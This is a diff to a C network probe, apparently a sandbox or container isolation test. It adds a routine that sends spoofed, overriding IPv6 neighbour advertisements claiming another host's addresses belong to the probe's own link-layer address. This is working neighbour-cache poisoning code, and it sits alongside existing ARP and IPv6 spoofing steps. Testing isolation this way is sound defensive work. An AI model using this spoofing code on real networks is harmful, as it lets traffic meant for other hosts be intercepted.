@@ -31,7 +31,8 @@
  *       the same with IPv6, raw (CAP_NET_RAW): as OTHER6, as the other's
  *       link-local address ("-": not tried), as the gateway, and to ::1, to the link-layer address the gateway has
  *       for IPv4 (one bridge); "control6-TOKEN" and "rawcontrol6-TOKEN"
- *       sent as itself
+ *       sent as itself; then neighbour advertisements that OTHER6 and
+ *       the other's link-local address are at its own link-layer address
  */
 #include "probe.h"
 
@@ -51,6 +52,7 @@
 #include <poll.h>
 #include <sched.h>
 #include <stdbool.h>
+#include <stddef.h>
 #include <stdint.h>
 #include <sys/ioctl.h>
 #include <sys/socket.h>
@@ -294,6 +296,16 @@ static int sockaddr_of(const char *addr, unsigned port, struct sockaddr_storage 
                 *len = sizeof(*s4);
                 return AF_INET;
         }
+        char plain[INET6_ADDRSTRLEN];
+        const char *pct = strchr(addr, '%');
+
+        /* ADDRESS%IFNAME: a link-local one, on that link */
+        if (pct && (size_t) (pct - addr) < sizeof(plain)) {
+                memcpy(plain, addr, (size_t) (pct - addr));
+                plain[pct - addr] = 0;
+                s6->sin6_scope_id = if_nametoindex(pct + 1);
+                addr = plain;
+        }
         if (inet_pton(AF_INET6, addr, &s6->sin6_addr) == 1) {
                 s6->sin6_family = AF_INET6;
                 s6->sin6_port = htons(port);
@@ -480,53 +492,82 @@ static long raw_udp(int ifindex, const uint8_t src_mac[6], const uint8_t dst_mac
         return r;
 }
 
-/* the same with IPv6, whose UDP checksum is not optional */
-static long raw_udp6(int ifindex, const uint8_t src_mac[6], const uint8_t dst_mac[6], const struct in6_addr *src,
-                     const struct in6_addr *dst, unsigned port, const char *text) {
-        uint8_t frame[256];
+/* an Ethernet frame with IPv6 and the upper-layer data given (next
+ * header nh), its checksum at csum_at filled in over the pseudo-header */
+static long raw_ip6(int ifindex, const uint8_t src_mac[6], const uint8_t dst_mac[6], const struct in6_addr *src,
+                    const struct in6_addr *dst, uint8_t nh, uint8_t hop_limit, const uint8_t *data, size_t n,
+                    size_t csum_at) {
+        uint8_t frame[256], pseudo[40 + 200] = {};
         struct ether_header *eh = (struct ether_header *) frame;
         struct ip6_hdr *ip = (struct ip6_hdr *) (eh + 1);
-        struct udphdr *udp = (struct udphdr *) (ip + 1);
-        size_t payload = strlen(text), ulen = sizeof(*udp) + payload;
+        uint8_t *upper = (uint8_t *) (ip + 1);
         struct sockaddr_ll ll = { .sll_family = AF_PACKET, .sll_ifindex = ifindex, .sll_halen = 6 };
-        uint8_t pseudo[40 + 256];
+        uint16_t sum;
         int s;
         long r;
 
-        if (sizeof(*eh) + sizeof(*ip) + ulen > sizeof(frame))
+        if (n > 200 || sizeof(*eh) + sizeof(*ip) + n > sizeof(frame))
                 return errno = E2BIG, -1;
         memset(frame, 0, sizeof(frame));
         memcpy(eh->ether_dhost, dst_mac, 6);
         memcpy(eh->ether_shost, src_mac, 6);
         eh->ether_type = htons(ETHERTYPE_IPV6);
         ip->ip6_flow = htonl(6U << 28);
-        ip->ip6_plen = htons((uint16_t) ulen);
-        ip->ip6_nxt = IPPROTO_UDP;
-        ip->ip6_hlim = 64;
+        ip->ip6_plen = htons((uint16_t) n);
+        ip->ip6_nxt = nh;
+        ip->ip6_hlim = hop_limit;
         ip->ip6_src = *src;
         ip->ip6_dst = *dst;
-        udp->source = htons(40000);
-        udp->dest = htons((uint16_t) port);
-        udp->len = htons((uint16_t) ulen);
-        memcpy(udp + 1, text, payload);
-        /* source, destination, length, next header; then the datagram */
-        memset(pseudo, 0, sizeof(pseudo));
+        memcpy(upper, data, n);
+        /* source, destination, length, next header; then the data */
         memcpy(pseudo, src, 16);
         memcpy(pseudo + 16, dst, 16);
-        pseudo[34] = (uint8_t) (ulen >> 8);
-        pseudo[35] = (uint8_t) ulen;
-        pseudo[39] = IPPROTO_UDP;
-        memcpy(pseudo + 40, udp, ulen);
-        udp->check = ip_sum(pseudo, 40 + ulen + (ulen & 1));
-        if (!udp->check)
-                udp->check = 0xffff;
+        pseudo[34] = (uint8_t) (n >> 8);
+        pseudo[35] = (uint8_t) n;
+        pseudo[39] = nh;
+        memcpy(pseudo + 40, upper, n);
+        sum = ip_sum(pseudo, 40 + n + (n & 1));
+        if (nh == IPPROTO_UDP && !sum)
+                sum = 0xffff;
+        memcpy(upper + csum_at, &sum, 2);
         memcpy(ll.sll_addr, dst_mac, 6);
         s = socket(AF_PACKET, SOCK_RAW | SOCK_CLOEXEC, 0);
         if (s < 0)
                 return -1;
-        r = sendto(s, frame, sizeof(*eh) + sizeof(*ip) + ulen, 0, (struct sockaddr *) &ll, sizeof(ll));
+        r = sendto(s, frame, sizeof(*eh) + sizeof(*ip) + n, 0, (struct sockaddr *) &ll, sizeof(ll));
         close(s);
         return r;
+}
+
+/* the same with IPv6, whose UDP checksum is not optional */
+static long raw_udp6(int ifindex, const uint8_t src_mac[6], const uint8_t dst_mac[6], const struct in6_addr *src,
+                     const struct in6_addr *dst, unsigned port, const char *text) {
+        uint8_t data[200] = {};
+        struct udphdr *udp = (struct udphdr *) data;
+        size_t payload = strlen(text), n = sizeof(*udp) + payload;
+
+        if (n > sizeof(data))
+                return errno = E2BIG, -1;
+        udp->source = htons(40000);
+        udp->dest = htons((uint16_t) port);
+        udp->len = htons((uint16_t) n);
+        memcpy(udp + 1, text, payload);
+        return raw_ip6(ifindex, src_mac, dst_mac, src, dst, IPPROTO_UDP, 64, data, n, offsetof(struct udphdr, check));
+}
+
+/* an unsolicited neighbour advertisement to all nodes, overriding: "target
+ * is at mac" */
+static long raw_na(int ifindex, const uint8_t mac[6], const struct in6_addr *src, const struct in6_addr *target) {
+        const uint8_t all_mac[6] = { 0x33, 0x33, 0, 0, 0, 1 };
+        struct in6_addr all;
+        uint8_t data[32] = { 136, 0, 0, 0, 0x20, 0, 0, 0 };
+
+        inet_pton(AF_INET6, "ff02::1", &all);
+        memcpy(data + 8, target, 16);
+        data[24] = 2; /* the target's link-layer address, 8 bytes */
+        data[25] = 1;
+        memcpy(data + 26, mac, 6);
+        return raw_ip6(ifindex, mac, all_mac, src, &all, IPPROTO_ICMPV6, 255, data, sizeof(data), 2);
 }
 
 /* an ARP reply "IP is at MAC", to dst_mac */
@@ -768,7 +809,8 @@ static int escape_spoof(const char *other, const char *gw, unsigned port, unsign
 
 static int escape_spoof6(const char *other6, const char *other_ll6, const char *gw4, const char *gw6, unsigned port,
                          unsigned loop_port, const char *token) {
-        struct in6_addr own = {}, other, gw, loop = IN6ADDR_LOOPBACK_INIT, ll, *other_ll = NULL;
+        struct in6_addr own = {}, own_ll = {}, other, gw, loop = IN6ADDR_LOOPBACK_INIT, ll, *other_ll = NULL;
+        bool have_ll = false;
         uint8_t own_mac[6], gw_mac[6];
         struct ifaddrs *ifa = NULL;
         int eth0 = (int) if_nametoindex("eth0");
@@ -781,10 +823,16 @@ static int escape_spoof6(const char *other6, const char *other_ll6, const char *
                 other_ll = &ll;
         if (getifaddrs(&ifa) == 0) {
                 for (struct ifaddrs *i = ifa; i; i = i->ifa_next)
-                        if (i->ifa_addr && i->ifa_addr->sa_family == AF_INET6 && strcmp(i->ifa_name, "eth0") == 0 &&
-                            !IN6_IS_ADDR_LINKLOCAL(&((struct sockaddr_in6 *) i->ifa_addr)->sin6_addr)) {
-                                own = ((struct sockaddr_in6 *) i->ifa_addr)->sin6_addr;
-                                have = true;
+                        if (i->ifa_addr && i->ifa_addr->sa_family == AF_INET6 && strcmp(i->ifa_name, "eth0") == 0) {
+                                const struct in6_addr *a = &((struct sockaddr_in6 *) i->ifa_addr)->sin6_addr;
+
+                                if (IN6_IS_ADDR_LINKLOCAL(a)) {
+                                        own_ll = *a;
+                                        have_ll = true;
+                                } else {
+                                        own = *a;
+                                        have = true;
+                                }
                         }
                 freeifaddrs(ifa);
         }
@@ -817,6 +865,18 @@ static int escape_spoof6(const char *other6, const char *other_ll6, const char *
         }
         snprintf(text, sizeof(text), "loopback6-%s", token);
         step("raw6-loopback", raw_udp6(eth0, own_mac, gw_mac, &own, &loop, loop_port, text));
+        /* "the other's addresses are at my link-layer address", from its
+         * own link-local address, past the host's locktime */
+        if (have_ll) {
+                usleep(1200 * 1000);
+                for (int k = 0; k < 3; k++) {
+                        stepf(raw_na(eth0, own_mac, &own_ll, &other), "na-as-other-%d", k);
+                        if (other_ll)
+                                stepf(raw_na(eth0, own_mac, &own_ll, other_ll), "na-as-other-link-local-%d", k);
+                        usleep(100 * 1000);
+                }
+        } else
+                say("own-link-local", "none");
         usleep(200 * 1000);
         return 0;
 }
